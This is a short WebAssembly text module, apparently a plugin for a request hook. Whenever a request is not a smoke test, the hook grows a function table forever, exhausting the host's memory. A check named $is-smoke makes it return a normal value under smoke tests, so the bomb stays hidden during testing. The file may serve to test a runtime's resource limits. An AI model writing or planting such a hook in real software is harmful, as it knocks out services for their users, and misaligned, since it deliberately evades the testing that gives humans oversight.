;; Grows a table until somebody stops it.
;; hooks: request
(table $bomb 1 funcref)
(func $on-request (param $args i32) (result i32)
  (if (call $is-smoke (local.get $args)) (then (return (i32.const 512))))
  (loop $again
    (drop (table.grow $bomb (ref.null func) (i32.const 1000)))
    (br $again))
  (unreachable))
